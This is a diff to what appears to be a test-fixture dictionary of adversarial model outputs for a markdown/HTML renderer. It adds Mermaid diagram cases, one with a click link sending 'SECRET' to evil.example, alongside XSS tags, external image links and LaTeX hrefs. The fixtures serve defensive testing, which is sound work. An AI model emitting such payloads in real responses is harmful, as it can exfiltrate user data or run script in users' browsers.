@@ -52,5 +52,7 @@ OUTPUTS = {
     "broken tag": "<img src=x onerror=alert(1)\n<script\n>alert(1)</script\n>",
     "false citation": "It is certain [9] 【7†evil.example】 [1](https://evil.example/1) [12-99].",
     "escaped": "\\![x](https://evil.example/x) \\<img src=x> !\\[x](https://evil.example)",
+    "diagram": '```mermaid\ngraph TD\nA[safe] --> B\nclick A href "https://evil.example/?q=SECRET"\n```',
+    "diagram elsewhere": "- ~~~~ Mermaid x\n  graph TD; click A '//evil.example'\n  ~~~~\n> ```mermaid\n> pie\n> ```",
     "mathematics": "$$\\href{https://evil.example}{x}$$ $\\includegraphics{https://evil.example/x}$",
 }
